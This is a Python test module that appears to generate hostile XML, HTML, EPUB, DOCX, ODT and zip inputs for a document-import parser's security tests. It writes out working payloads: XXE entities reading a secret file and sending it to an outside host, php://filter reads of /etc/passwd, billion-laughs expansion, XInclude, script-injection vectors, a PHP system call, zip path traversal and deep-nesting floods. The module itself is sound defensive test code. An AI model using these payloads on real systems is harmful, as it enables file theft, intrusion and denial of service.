"""Attacks in XML and HTML: entities, depth, encodings that are not what they say, and all that acts or asks."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from functools import partial

from tests.hostile.cases import OUTSIDE, PROSE, SECRET_FILE, STORY, Case, Outcome
from tests.hostile.wrappings import CHAPTER, CONTAINER, NCX, OPEN_TEXT, WORD, docx, epub, odt, package, package_document
from tests.hostile.zips import member, written

MEBIBYTE = 1 << 20
Change = Callable[[str], bytes]

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
_PARAMETERS = f'<!ENTITY % a SYSTEM "{SECRET_FILE}"><!ENTITY % b "<!ENTITY &#37; c SYSTEM \'{OUTSIDE}/?%a;\'>">%b;%c;'
# What stands in a document type, and how the document calls it.
DOCTYPES: dict[str, tuple[str, str]] = {
    "entity-file": (f'[<!ENTITY x SYSTEM "{SECRET_FILE}">]', "&x;"),
    "entity-net": (f'[<!ENTITY x SYSTEM "{OUTSIDE}/x">]', "&x;"),
    "entity-public": (f'[<!ENTITY x PUBLIC "-//X//X" "{OUTSIDE}/x">]', "&x;"),
    "entity-php": ('[<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]', "&x;"),
    "entity-parameter": (f"[{_PARAMETERS}]", ""),
    "dtd-net": (f'SYSTEM "{OUTSIDE}/evil.dtd"', ""),
    "dtd-file": (f'SYSTEM "{SECRET_FILE}"', ""),
    "laughs": (f'[<!ENTITY l0 "lol">{_LAUGHS}]', "&l11;"),
    "quadratic": (f'[<!ENTITY q "{"q" * 100_000}">]', "&q;" * 2_000),
    "recursion": ('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;"),
    "attribute-default": ('[<!ATTLIST p onclick CDATA "alert(1)">]', ""),
    "unparsed": (f'[<!NOTATION n SYSTEM "x"><!ENTITY x SYSTEM "{OUTSIDE}/x" NDATA n>]', ""),
    "many": ("[" + "".join(f'<!ENTITY e{n} "x">' for n in range(50_000)) + "]", "&e7;"),
}


def _with_doctype(doctype: str, call: str, text: str) -> bytes:
    """A document with a type declaration, its content calling what is declared there."""
    declaration, _, rest = text.partition("?>")
    root = rest.lstrip("<").split(None, 1)[0].rstrip(">")
    words = (STORY, "The Lamp", "content.opf", "One")
    word = next(one for one in words if one in rest)
    return f"{declaration}?><!DOCTYPE {root} {doctype}>{rest.replace(word, word + call, 1)}".encode()


def _inside(more: str, text: str) -> bytes:
    """A document with something more before its last end tag."""
    start, end, rest = text.rpartition("</")
    return (start + more + end + rest).encode()


def _deep(count: int, text: str) -> bytes:
    return _inside("<g>" * count + "x" + "</g>" * count, text)


def _deep_names(count: int, text: str) -> bytes:
    return _inside(f'<g xmlns:{"n" * 200}="u">' * count + "</g>" * count, text)


def _attributes(count: int, text: str) -> bytes:
    return _inside("<g " + " ".join(f'a{n}="x"' for n in range(count)) + "/>", text)


def _attribute_long(size: int, text: str) -> bytes:
    return _inside(f'<g a="{"x" * size}"/>', text)


def _encoded(declared: str, used: str, text: str) -> bytes:
    """A document that says one encoding and is written in another."""
    return text.replace('"1.0"', f'"1.0" encoding="{declared}"', 1).replace(' encoding="utf-8"', "", 1).encode(used)


def _flood(tag: str, count: int, text: str) -> bytes:
    return _inside(f"<{tag}/>" * count, text)


CHANGES: dict[str, Change] = {
    **{name: partial(_with_doctype, *said) for name, said in DOCTYPES.items()},
    "deep": partial(_deep, 100_000),
    "deep-unclosed": partial(_inside, "<g>" * 100_000),
    "deep-names": partial(_deep_names, 2_000),
    "attributes": partial(_attributes, 100_000),
    "attribute-long": partial(_attribute_long, 10 * MEBIBYTE),
    "flood": partial(_flood, "g", 300_000),
    "base": partial(_inside, f'<g xml:base="{OUTSIDE}/"><a href="x">x</a></g>'),
    "include": partial(
        _inside, f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{SECRET_FILE}" parse="text"/>'
    ),
    "include-net": partial(_inside, f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{OUTSIDE}/x"/>'),
    "stylesheet": lambda text: text.replace(
        "?>", f'?><?xml-stylesheet type="text/xsl" href="{OUTSIDE}/x.xsl"?>', 1
    ).encode(),
    "instructions": partial(_inside, "<?php system('id'); ?>" * 2_000),
    "cdata-unclosed": partial(_inside, "<![CDATA[" * 2_000),
    "comment-unclosed": partial(_inside, "<!--" * 20_000),
    "utf-7": partial(_encoded, "utf-7", "utf-8"),
    "utf-7-script": lambda text: _encoded("utf-7", "utf-8", text).replace(
        b"</", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-</", 1
    ),
    "utf-16-said": partial(_encoded, "utf-16", "utf-8"),
    "utf-8-said": partial(_encoded, "utf-8", "utf-16"),
    "utf-32": partial(_encoded, "utf-32", "utf-32"),
    "utf-16-be": partial(_encoded, "utf-16be", "utf-16-be"),
    "encoding-program": partial(_encoded, "unicode_escape", "utf-8"),
    "encoding-unknown": partial(_encoded, "x-evil" * 6, "utf-8"),
    "encoding-ebcdic": partial(_encoded, "cp500", "utf-8"),
    "nul": lambda text: text.replace(" ", " \0", 40).encode(),
    "surrogates": lambda text: text.replace(" ", " \ud800", 3).encode("utf-8", "surrogatepass"),
    "empty": lambda _: b"",
    "torn": lambda text: text.encode()[: len(text) // 2],
}


def _book(part: str, text: str, change: Change) -> bytes:
    return written(epub(**{part: change(text)}))


def _word(change: Change) -> bytes:
    return written(docx(document=change(WORD)))


def _open(change: Change) -> bytes:
    return written(odt(content=change(OPEN_TEXT)))


def _alone(change: Change) -> bytes:
    return change(CHAPTER)


def _epub_of(chapter: str) -> bytes:
    return written(epub(chapter=chapter))


def _page(body: str, head: str = "") -> bytes:
    before = f"<!DOCTYPE html><html><head><title>The Lamp</title>{head}</head><body><p>{PROSE}</p>"
    return f"{before}{body}</body></html>".encode()


# Pages that are hard to take apart, or that want to act.
PAGES: dict[str, Callable[[], bytes]] = {
    "deep-div": lambda: _page("<div>" * 100_000 + "x" + "</div>" * 100_000),
    "deep-b": lambda: _page("<b>" * 100_000 + "x"),
    "deep-b-i": lambda: _page("<b><i>" * 50_000 + "x" + "</b></i>" * 50_000),
    "deep-table": lambda: _page("<table><tr><td>" * 30_000 + "x"),
    "deep-list": lambda: _page("<ul><li>" * 50_000 + "x"),
    "deep-quote": lambda: _page("<blockquote>" * 50_000 + "x"),
    "deep-font": lambda: _page("<font color=red><p>" * 30_000 + "x"),
    "deep-a": lambda: _page("<a href=x>" * 100_000 + "x"),
    "deep-select": lambda: _page("<select><option>" * 50_000),
    "deep-svg": lambda: _page("<svg><g>" * 50_000 + "x"),
    "deep-math": lambda: _page("<math><mi><annotation-xml>" * 20_000),
    "deep-template": lambda: _page("<template>" * 50_000),
    "deep-ruby": lambda: _page("<ruby><rt>" * 50_000 + "x"),
    "deep-object": lambda: _page("<object><button><p>" * 20_000),
    "adoption": lambda: _page("<p><b><i><a href=x>" * 200 + "</p>" * 20_000),
    "misnested": lambda: _page("<b><p></b></p>" * 30_000),
    "foster": lambda: _page("<table>" + "<b>x<tr>y" * 20_000),
    "tag-unclosed": lambda: _page("<a " * 100_000),
    "quote-unclosed": lambda: _page("<a href='" * 50_000),
    "tag-stubs": lambda: _page("<" * 500_000),
    "end-tags": lambda: _page("</p></b></x>" * 60_000),
    "comments": lambda: _page("<!----><!--x" * 100_000),
    "declarations": lambda: _page("<!x><?x>" * 100_000),
    "entities": lambda: _page("&amp;&#x41;&notit;&" * 100_000),
    "entity-large": lambda: _page("&#99999999999999999999;&#x110000;&#0;&#xd800;" * 20_000),
    "attributes": lambda: _page("<p " + " ".join(f"a{n}=x" for n in range(100_000)) + ">x"),
    "attributes-same": lambda: _page("<p " + "a=x " * 200_000 + ">x"),
    "attribute-long": lambda: _page(f"<p title='{'x' * 5_000_000}'>x"),
    "class-many": lambda: _page(f"<p class='{' '.join(f'c{n}' for n in range(200_000))}'>x"),
    "id-many": lambda: _page("".join(f"<a id=i{n}></a>" for n in range(100_000))),
    "id-same": lambda: _page("<a id=x></a>" * 100_000 + "<a href=#x>x</a>"),
    "paragraphs": lambda: _page("<p>x" * 200_000),
    "breaks": lambda: _page("<br>" * 300_000),
    "headings": lambda: _page("<h2>Chapter</h2><p>x</p>" * 30_000),
    "rules": lambda: _page("<hr>" * 200_000),
    "links": lambda: _page("<a href='http://a.example/'>x</a> " * 60_000),
    "style-long": lambda: _page("x", f"<style>{'p{color:red} ' * 100_000}</style>"),
    "style-deep": lambda: _page("x", "<style>" + "@media all{" * 50_000 + "</style>"),
    "style-inline": lambda: _page("<p style='font-weight:bold;text-align:center;x:y'>x" * 40_000),
    "json": lambda: _page("x", '<script type="application/ld+json">' + "[" * 100_000 + "</script>"),
    "json-long": lambda: _page("x", '<script type="application/ld+json">{"name":"' + "x" * 3_000_000 + '"}</script>'),
    "metas": lambda: _page("x", "<meta name=author content='A, B & C'>" * 50_000),
    "word-long": lambda: _page("<p>" + "x" * 5_000_000),
    "spaces": lambda: _page("<p>" + " \n\t" * 2_000_000),
    "plaintext": lambda: _page("<plaintext>" + "<x>" * 100_000),
    "textareas": lambda: _page("<textarea><title><xmp>" * 50_000),
    "base": lambda: _page("<a href='x'>x</a><img src='y.png'>", f"<base href='{OUTSIDE}/'>"),
    "refresh": lambda: _page("x", f"<meta http-equiv=refresh content='0;url={OUTSIDE}/'>"),
    "sheet": lambda: _page(
        "x", f"<link rel=stylesheet href='{OUTSIDE}/a.css'><style>@import '{OUTSIDE}/b.css';</style>"
    ),
    "scripts": lambda: _page(
        "<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><a href=javascript:alert(1)>x</a>"
        "<iframe srcdoc='<script>alert(1)</script>'></iframe><math><mtext><mglyph><style><img src=x onerror=alert(1)>"
    ),
    "pictures-elsewhere": lambda: _page(f"<img src='{OUTSIDE}/pixel.gif' alt='A lamp' srcset='{OUTSIDE}/2.gif 2x'>"),
    "forms": lambda: _page("<form action=/x><input name=csrfmiddlewaretoken><button formaction=javascript:x>y</form>"),
    "charset-utf-7": lambda: _page("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<meta charset=utf-7>"),
    "charset-utf-16": lambda: _page("x", "<meta charset=utf-16>"),
    "charset-2022": lambda: _page("\x1b$B!\x1b(B<script>", "<meta charset=iso-2022-jp>"),
    "charset-program": lambda: _page("x", "<meta charset=zip>"),
    "utf-16-lone": lambda: "\ufeff<html><body><p>".encode("utf-16-le") + b"\x00\xd8" * 50_000,
    "not-utf-8": lambda: b"<html><body><p>" + bytes(range(128, 256)) * 5_000,
    "controls": lambda: b"<html><body><p>" + bytes(n for n in range(1, 32)) * 20 + PROSE.encode() * 300,
    "ao3-like": lambda: _page(
        '<p class="message">Posted originally on the <a href="http://x.example/">Archive</a></p><dl class="tags">'
        + "<dt>Rating:</dt><dd><a>x</a></dd>" * 30_000
    ),
    "retold-like": lambda: _page("<!--retold:chapter-1-text-->" * 50_000),
    "noscript": lambda: _page("<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>" * 3_000),
}


def _json_deep() -> bytes:
    return written(package("[" * 100_000))


def _json_text(html: str) -> bytes:
    return written(package(json.dumps({"schema": "retold.manuscript/1", "chapters": [{"html": html}]})))


def _json_number() -> bytes:
    return written(
        package('{"schema": "retold.manuscript/1", "chapters": [{"html": "<p>x</p>"}], "stats": ' + "9" * 5_000 + "}")
    )


PACKAGES: dict[str, Callable[[], bytes]] = {
    "json-deep": _json_deep,
    "json-number": _json_number,
    "json-type": lambda: written(package('{"schema": 7, "chapters": {"html": []}}')),
    "json-keys": lambda: written(package("{" + ",".join(f'"k{n}":1' for n in range(100_000)) + "}")),
    "script": lambda: _json_text(f"<p>{PROSE}</p><script>alert(1)</script><img src=x onerror=alert(1)>"),
    "deep": lambda: _json_text("<div>" * 100_000),
    "asset-up": lambda: written(package(assets={"../../evil.png": b"\x89PNG\r\n\x1a\n"})),
    "asset-html": lambda: written(package(assets={"a.png": b"<html><script>alert(1)</script></html>"})),
    "no-digests": lambda: written([one for one in package() if b"manifest" not in one.name]),
    "stray": lambda: written([*package(), member("lamp/stray.txt", PROSE)]),
}


def cases() -> Iterator[Case]:
    """All attacks in markup."""
    for name, change in CHANGES.items():
        alone = partial(_alone, change)
        yield Case(f"markup-xhtml-{name}", "lamp.xhtml", alone)
        yield Case(f"markup-epub-chapter-{name}", "lamp.epub", partial(_book, "chapter", CHAPTER, change))
        yield Case(f"markup-epub-package-{name}", "lamp.epub", partial(_book, "package", package_document(), change))
        yield Case(f"markup-docx-{name}", "lamp.docx", partial(_word, change))
    for name in DOCTYPES:
        yield Case(f"markup-epub-container-{name}", "lamp.epub", partial(_book, "container", CONTAINER, CHANGES[name]))
        yield Case(f"markup-epub-ncx-{name}", "lamp.epub", partial(_book, "ncx", NCX, CHANGES[name]))
        yield Case(f"markup-odt-{name}", "lamp.odt", partial(_open, CHANGES[name]))
    must: Outcome = "either"
    for name, build in PAGES.items():
        yield Case(f"markup-page-{name}", "lamp.html", build, must)
        if name.startswith(("deep", "adoption", "foster", "scripts")):
            yield Case(f"markup-epub-page-{name}", "lamp.epub", partial(_in_epub, build))
    for name, build in PACKAGES.items():
        yield Case(f"markup-package-{name}", "lamp.retold.zip", build)


def _in_epub(build: Callable[[], bytes]) -> bytes:
    return written(epub(chapter=build()))
